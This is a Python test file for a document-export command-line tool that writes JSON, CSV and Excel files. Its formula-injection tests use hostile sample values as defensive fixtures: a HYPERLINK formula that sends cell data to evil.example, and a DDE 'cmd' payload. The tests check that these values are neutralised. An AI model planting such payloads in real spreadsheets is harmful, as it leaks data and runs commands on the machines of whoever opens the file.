"""``docstage export`` as a process of its own, against the gateway on a real socket."""

import asyncio
import csv
import io
import json
import os
import re
import signal
from datetime import datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from shared.exports.cells import inert
from shared.models.extraction import Field, Fields
from shared.store.collections import DOCUMENTS
from tests.api.command import Command, Ended, ended
from tests.api.docdigitizer_client import INVOICE_FIELDS, Client, extract, found
from tests.api.harness import API, DOCUMENTS_PATH, PDF, Caller, Gateway, Json
from tests.api.terminal import Terminal

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"more")'


@pytest.fixture
def docstage(gateway: Gateway, alice: Caller, tmp_path: Path) -> Command:
    return Command(tmp_path, URL=gateway.url, KEY=alice.key)


async def made(
    gateway: Gateway, caller: Caller, fields: Fields, kind: str = "invoice", **form: str
) -> str:
    (document,) = await caller.upload(PDF + os.urandom(8), **form)
    identity: str = document["id"]
    await extract(gateway, Client(caller, caller.client), identity, fields, kind)
    return identity


def table(result: Ended) -> list[dict[str, str]]:
    assert result.code == 0, result.err
    return list(csv.DictReader(io.StringIO(result.out, newline="")))


def names_in(folder: Path) -> list[str]:
    return sorted(it.name for it in folder.iterdir())


def sheet(book: Any, name: str) -> list[dict[str, Any]]:
    head, *rows = book[name].iter_rows(values_only=True)
    return [dict(zip(head, row, strict=True)) for row in rows]


async def test_json_is_what_the_api_shows_of_all_documents_newest_first(
    docstage: Command, gateway: Gateway, alice: Caller, bob: Caller
) -> None:
    assert (await docstage("export")).out == "[]\n"
    files = [PDF + str(number).encode() for number in range(12)]
    for _ in range(9):  # more than the 100 of one page
        await alice.upload(*files)
    await bob.upload()
    await gateway.outbox.drain(10.0)  # or what is cleared between two looks shows as updated
    result = await docstage("export")
    assert (result.code, result.err) == (0, "")
    shown: list[Json] = []
    query = {"maxRetrieve": "100"}
    for _ in range(2):
        async with alice.client.get(DOCUMENTS_PATH, params=query) as answer:
            shown += (await answer.json())["documents"]
            query["cursorId"] = answer.headers["X-Cursor-ID"]
    assert len(shown) == 108
    assert result.json == shown
    lines = await docstage("export", "--format", "jsonl")
    assert [json.loads(it) for it in lines.out.splitlines()] == shown


async def test_csv_has_a_row_for_each_document(
    docstage: Command, gateway: Gateway, alice: Caller
) -> None:
    invoice = await made(gateway, alice, INVOICE_FIELDS, reference="r;1\n2")
    receipt = await made(gateway, alice, {"total": found("-3.50", 0.5)}, "receipt")
    first, second = table(await docstage("export", "-f", "csv"))
    assert (first["id"], second["id"]) == (receipt, invoice)
    assert (first["type"], first["fields.total"], first["confidence.total"]) == (
        "receipt",
        "-3.50",
        "0.5",
    )
    assert (first["fields.total_amount"], second["fields.total"]) == ("", "")
    assert second["reference"] == "r;1\n2"
    assert second["fields.supplier_name"] == "Muster GmbH"
    assert second["fields.tax_amount"] == "-19.00"
    assert second["rows.line_items"] == "1"
    assert (second["state"], second["reviewed"], second["pages"]) == ("ready", "false", "2")
    assert second["created"].endswith("Z")


async def test_the_columns_of_a_type_are_there_whatever_was_found(
    docstage: Command, gateway: Gateway, alice: Caller
) -> None:
    await made(gateway, alice, {"total": found("1.00"), "extra": found("x")}, "receipt")
    await made(gateway, alice, INVOICE_FIELDS)
    result = await docstage("export", "-f", "csv", "--type", "receipt")
    schema = await alice.call("GET", f"{API}/types/receipt", 200)
    names = [it["name"] for it in schema["fields"]]
    columns = [it for name in [*names, "extra"] for it in (f"fields.{name}", f"confidence.{name}")]
    assert result.out.splitlines()[0].split(",")[12:] == columns
    assert len(table(result)) == 1


async def test_the_rows_of_a_list_can_be_the_rows(
    docstage: Command, gateway: Gateway, alice: Caller
) -> None:
    row = {"description": found("Screws"), "quantity": found("2"), "line_total": found("20.00")}
    rows = [*INVOICE_FIELDS["line_items"], row]
    two = await made(gateway, alice, {**INVOICE_FIELDS, "line_items": rows})
    await made(gateway, alice, {"total": found("1.00")}, "receipt")
    result = await docstage("export", "-f", "csv", "--rows", "line_items")
    first, second = table(result)
    assert (first["id"], first["row"], second["id"], second["row"]) == (two, "1", two, "2")
    assert first["line_items.description"] == "Nägel, 1 kg"
    assert first["confidence.line_items.line_total"] == "0.7"
    assert (second["line_items.quantity"], first["line_items.quantity"]) == ("2", "")
    assert first["fields.invoice_number"] == second["fields.invoice_number"] == "2026-17"
    assert result.err == "Left out: 1 document without line_items.\n"
    wrong = await docstage("export", "--rows", "line_items")
    assert (wrong.code, wrong.out) == (2, "")


async def test_text_of_strangers_is_no_formula(
    docstage: Command, gateway: Gateway, alice: Caller
) -> None:
    fields: Fields = {
        "supplier_name": found(EVIL),
        "customer_name": found("\t=1+1"),
        "invoice_number": found("-17"),
        "total_amount": found("-119.00"),
        "iban": found("+49 30 1234"),
        "line_items": [{"description": found("@SUM(A1)"), "line_total": found("-1.00")}],
    }
    await made(gateway, alice, fields, reference="+r")
    (row,) = table(await docstage("export", "-f", "csv", "--rows", "line_items"))
    assert row["fields.supplier_name"] == f"'{EVIL}"
    assert row["fields.customer_name"] == "'\t=1+1"
    assert row["fields.invoice_number"] == "-17"
    assert row["fields.total_amount"] == "-119.00"
    assert row["fields.iban"] == "'+49 30 1234"
    assert row["line_items.description"] == "'@SUM(A1)"
    assert row["line_items.line_total"] == "-1.00"
    assert row["reference"] == "'+r"
    (plain,) = (await docstage("export")).json
    assert plain["fields"]["supplier_name"]["value"] == EVIL


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("-12.50", "-12.50"),
        ("+4930123456", "+4930123456"),
        ("-1.2.3", "'-1.2.3"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
        (" =1", "' =1"),
        ("\ufeff=1", "'\ufeff=1"),
        ("＝1", "'＝1"),  # noqa: RUF001
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        ("2026-01-31", "2026-01-31"),
        ("", ""),
    ],
)
def test_what_may_be_a_formula(text: str, expected: str) -> None:
    assert inert(text) == expected


async def test_a_workbook_has_typed_cells_and_a_sheet_for_each_list(
    docstage: Command, gateway: Gateway, alice: Caller, tmp_path: Path
) -> None:
    number = Field(value="00017", raw="00017", confidence=0.9)
    long = {"supplier_name": found("x" * 40_000), "customer_name": found("a\x00b\x1f")}
    identity = await made(
        gateway, alice, {**INVOICE_FIELDS, "invoice_number": number, "vat_id": found(EVIL)}
    )
    await made(gateway, alice, {**long, "total_amount": found("12345678901234567.89")})
    result = await docstage("export", "--output", tmp_path / "all.xlsx")
    assert (result.code, result.out) == (0, "")
    assert result.err == f"Wrote 2 documents to {tmp_path}/all.xlsx.\n"
    book = openpyxl.load_workbook(tmp_path / "all.xlsx")
    assert book.sheetnames == ["Documents", "line_items"]
    huge, row = sheet(book, "Documents")
    assert row["id"] == identity
    assert row["fields.invoice_number"] == "00017"
    assert row["fields.total_amount"] == 119
    assert row["fields.tax_amount"] == -19
    assert row["fields.invoice_date"] == datetime(2026, 1, 15)  # noqa: DTZ001 - Excel has no zones
    assert isinstance(row["created"], datetime)
    assert row["confidence.total_amount"] == 0.97
    assert row["fields.vat_id"] == EVIL
    cells = [it for line in book["Documents"].iter_rows() for it in line]
    assert {it.data_type for it in cells} <= {"s", "n", "d"}
    (evil,) = [it for it in cells if it.value == EVIL]
    assert (evil.data_type, evil.quotePrefix) == ("s", True)
    assert huge["fields.total_amount"] == "12345678901234567.89"
    assert len(huge["fields.supplier_name"]) == 32_767
    (line,) = sheet(book, "line_items")
    assert (line["id"], line["row"], line["line_items.line_total"]) == (identity, 1, 100)
    assert line["line_items.description"] == "Nägel, 1 kg"
    assert book["Documents"].freeze_panes == "A2"


async def test_filters_are_those_of_the_list(
    docstage: Command, gateway: Gateway, alice: Caller
) -> None:
    await alice.call("POST", f"{API}/workspaces", 201, json={"name": "bills"})
    ready = await made(gateway, alice, {"total": found("1.00")}, "receipt", workspace="bills")
    (waiting,) = await alice.upload(PDF, reference="r1")
    (gone,) = await alice.upload(PDF + b"2")
    await alice.call("POST", f"{gone['links']['self']}/cancel", 200)
    record = await gateway.store.of(alice.tenant, DOCUMENTS).get(waiting["id"])
    assert record is not None
    moment = record.created.isoformat()
    for words, expected in (
        (("--state", "ready"), [ready]),
        (("--state", "received", "--state", "cancelled"), [gone["id"], waiting["id"]]),
        (("--workspace", "bills"), [ready]),
        (("--reference", "r1"), [waiting["id"]]),
        (("--type", "receipt"), [ready]),
        (("--created-after", moment), [gone["id"]]),
        (("--created-before", moment), [ready]),
        (("--created-after", "1d"), [gone["id"], waiting["id"], ready]),
        (("--created-before", "1d"), []),
        ((waiting["id"], ready, waiting["id"]), [waiting["id"], ready]),
    ):
        result = await docstage("export", *words)
        assert result.code == 0, result.err
        assert [it["id"] for it in result.json] == expected, words


async def test_named_documents_that_are_missing_are_told(
    docstage: Command, alice: Caller, bob: Caller
) -> None:
    (mine,) = await alice.upload()
    (theirs,) = await bob.upload()
    result = await docstage("export", theirs["id"], mine["id"], "x")
    assert result.code == 1
    assert [it["id"] for it in result.json] == [mine["id"]]
    assert result.err == (f"There is no document {theirs['id']!r}.\nThere is no document 'x'.\n")


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (("--state", "redy"), "BAD_REQUEST: state must be one of"),
        (("--workspace", "nowhere"), "There is no workspace 'nowhere'."),
        (("--created-after", "yesterday"), "'yesterday' is no time"),
        (("some-id", "--state", "ready"), "Name documents or filters, not both."),
        (("--output", "missing/out.csv"), "missing/out.csv cannot be written: No such file"),
        (("--key", "x" * 40), "WRONG_AUTH"),
    ],
)
async def test_what_is_wrong_is_one_line_and_leaves_no_file(
    docstage: Command, alice: Caller, tmp_path: Path, words: tuple[str, ...], said: str
) -> None:
    before = names_in(tmp_path)
    result = await docstage("export", *words, *([] if "--output" in words else ["-o", "out.json"]))
    assert (result.code, result.out) == (2, "")
    assert said in result.err
    assert result.err.count("\n") == 1
    assert names_in(tmp_path) == before


async def test_a_file_is_replaced_whole_or_not_at_all(
    docstage: Command, gateway: Gateway, alice: Caller, tmp_path: Path
) -> None:
    await alice.upload(*(PDF + str(it).encode() for it in range(15)))
    target = tmp_path / "out.jsonl"
    target.write_text("before")
    identities = [it["id"] for it in (await docstage("export")).json]
    process = await docstage.start("export", "-o", target, *(identities * 200))
    part = re.compile(r"\.out\.jsonl\..*\.part")
    async with asyncio.timeout(60):
        while not any(part.fullmatch(it) for it in names_in(tmp_path)):
            await asyncio.sleep(0.01)
    process.send_signal(signal.SIGINT)
    result = await ended(process)
    if result.code == 130:  # else it was done before the signal came
        assert target.read_text() == "before"
    assert not any(part.fullmatch(it) for it in names_in(tmp_path))
    assert (await docstage("export", "-o", target)).code == 0
    assert len(target.read_text().splitlines()) == 15
    full = os.open("/dev/full", os.O_WRONLY)
    process = await docstage.start("export", out=full)
    os.close(full)
    assert await asyncio.wait_for(process.wait(), 60) == 2


async def test_on_a_terminal_there_is_a_count_and_no_workbook(
    docstage: Command, gateway: Gateway, alice: Caller, tmp_path: Path
) -> None:
    await alice.upload()
    terminal = Terminal()
    process = await docstage.start("export", "-o", "a.csv", out=terminal.side, err=terminal.side)
    reading = asyncio.create_task(asyncio.to_thread(terminal.read))
    assert await asyncio.wait_for(process.wait(), 60) == 0
    seen = await reading
    assert "Wrote 1 document to a.csv." in seen
    terminal = Terminal()
    process = await docstage.start("export", "-f", "xlsx", out=terminal.side)
    reading = asyncio.create_task(asyncio.to_thread(terminal.read))
    assert await asyncio.wait_for(process.wait(), 60) == 2
    assert "PK" not in await reading
